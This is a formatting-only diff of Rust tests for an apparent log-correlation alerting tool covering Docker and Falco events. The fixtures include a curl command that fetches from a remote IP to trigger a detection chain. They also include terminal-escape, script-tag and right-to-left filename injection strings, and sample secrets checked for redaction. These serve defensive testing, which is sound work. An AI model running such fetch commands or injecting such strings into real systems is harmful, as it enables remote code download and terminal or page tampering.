@@ -91,11 +91,13 @@ fn strict_turns_any_skip_into_exit_3() {
     assert_eq!(strict.code, 3, "{}", strict.stderr);
     // Still a complete scan: the alert is out and the skip is located.
     assert_eq!(alerts(&strict).len(), 1);
-    assert!(strict.stderr.contains("skipped: 1 records"), "{}", strict.stderr);
     assert!(
-        strict
-            .stderr
-            .contains(&format!("at {}:1: ", p.display())),
+        strict.stderr.contains("skipped: 1 records"),
+        "{}",
+        strict.stderr
+    );
+    assert!(
+        strict.stderr.contains(&format!("at {}:1: ", p.display())),
         "{}",
         strict.stderr
     );
@@ -177,7 +179,15 @@ fn a_record_dated_2099_neither_moves_time_nor_blocks_its_input() {
     first.extend(chain("worker", "curl -s http://198.51.100.23/x", 40));
     let a = d.file("a.jsonl", lines(&first).as_bytes());
     let mut mid: Vec<Value> = (0..6)
-        .map(|i| docker(10 + i * 30, "container", "create", &format!("{i:012x}"), "n"))
+        .map(|i| {
+            docker(
+                10 + i * 30,
+                "container",
+                "create",
+                &format!("{i:012x}"),
+                "n",
+            )
+        })
         .collect();
     mid.insert(3, far);
     let b = d.file("b.jsonl", lines(&mid).as_bytes());
@@ -191,8 +201,16 @@ fn a_record_dated_2099_neither_moves_time_nor_blocks_its_input() {
         "{}",
         r.stderr
     );
-    assert!(r.stderr.contains(&format!("at {}:1: ", a.display())), "{}", r.stderr);
-    assert!(r.stderr.contains(&format!("at {}:4: ", b.display())), "{}", r.stderr);
+    assert!(
+        r.stderr.contains(&format!("at {}:1: ", a.display())),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains(&format!("at {}:4: ", b.display())),
+        "{}",
+        r.stderr
+    );
 }
 
 #[test]
@@ -212,7 +230,8 @@ fn late_records_are_reported_with_their_location_and_fail_strict() {
         r.stderr
     );
     assert!(
-        r.stderr.contains(&format!("at {}:6: 8m10s late", p.display())),
+        r.stderr
+            .contains(&format!("at {}:6: 8m10s late", p.display())),
         "{}",
         r.stderr
     );
@@ -239,7 +258,12 @@ fn clock_skew_between_sources() {
         let falco_file = d.file("falco.jsonl", lines(&[falco(43 + skew)]).as_bytes());
         let r = run(&["--format", "json"], &[&docker_file, &falco_file]);
         assert_eq!(r.code, 0, "{}", r.stderr);
-        assert_eq!(alerts(&r).len(), alerts_expected, "skew {skew}: {}", r.stderr);
+        assert_eq!(
+            alerts(&r).len(),
+            alerts_expected,
+            "skew {skew}: {}",
+            r.stderr
+        );
         assert!(!r.stderr.contains("late ("), "{}", r.stderr);
     }
 }
@@ -255,7 +279,11 @@ fn the_same_records_twice_alert_once() {
         let paths: Vec<&Path> = paths.iter().map(|p| p.as_path()).collect();
         let r = run(&["--format", "json"], &paths);
         assert_eq!(alerts(&r).len(), 1, "{}", r.stderr);
-        assert!(r.stderr.contains("alerts: 1 (an0691.chain 1)"), "{}", r.stderr);
+        assert!(
+            r.stderr.contains("alerts: 1 (an0691.chain 1)"),
+            "{}",
+            r.stderr
+        );
     }
 }
 
@@ -270,7 +298,13 @@ fn hostile_input(d: &Dir) -> PathBuf {
 }
 
 fn assert_no_secrets(out: &str) {
-    for secret in ["hunter2", "tok3n", "s3cr3t", "IOSFODNN7EXAMPLE", "eyJzdWIiOiIxIn0"] {
+    for secret in [
+        "hunter2",
+        "tok3n",
+        "s3cr3t",
+        "IOSFODNN7EXAMPLE",
+        "eyJzdWIiOiIxIn0",
+    ] {
         assert!(!out.contains(secret), "{secret} leaked: {out}");
     }
 }
@@ -311,9 +345,8 @@ fn text_output_neutralizes_control_characters_and_redacts_secrets() {
         assert!(!bad, "{c:?} reached the terminal: {}", r.stdout);
     }
     assert!(
-        r.stdout.contains(
-            "container w\"\\n\\x1b[2J\\x1b]0;pwned\\x07</script><b>\\u{202e}gnp.exe\\r"
-        ),
+        r.stdout
+            .contains("container w\"\\n\\x1b[2J\\x1b]0;pwned\\x07</script><b>\\u{202e}gnp.exe\\r"),
         "{}",
         r.stdout
     );
